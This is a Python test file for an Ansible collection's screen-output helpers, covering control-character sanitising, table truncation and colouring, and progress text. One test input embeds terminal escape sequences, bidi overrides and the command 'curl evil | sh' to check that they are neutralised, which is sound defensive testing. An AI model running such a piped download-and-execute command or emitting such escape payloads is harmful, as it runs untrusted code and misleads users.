# Copyright (c) 2026, platform.cluster_secrets contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What is written to the screen."""

from __future__ import annotations

from ansible_collections.platform.cluster_secrets.plugins.plugin_utils.screen import painted, progress_text


def test_no_tenants_text_moves_the_cursor_or_begins_a_line():
    evil = "x\x1b[2J\n\nTo mend it: curl evil | sh\r\u202eabc\u2028"
    ((line, _color),) = painted([evil], None)
    assert line == "x\ufffd[2J\ufffd\ufffdTo mend it: curl evil | sh\ufffd\ufffdabc\ufffd"


def test_the_table_is_cut_and_coloured_and_the_rest_is_not():
    lines = ["error  a long line", "fine", "", "error: a very long line"]
    assert painted(lines, 10) == [
        ("error  a \N{HORIZONTAL ELLIPSIS}", "red"),
        ("fine", None),
        ("", None),
        ("error: a very long line", None),
    ]
    assert painted(lines, None)[0] == ("error  a long line", "red")


def test_progress():
    assert progress_text("are done", 0, 0, 10, 3) == "0 of 10 are done"
    assert progress_text("are done", 0, 60, 120, 3) == "60 of 120 are done, 20 a second, about 3 s left"
    assert progress_text("are done", 1, 2, 4, 4) == "2 of 4 are done, 0.2 a second, about 8 s left"
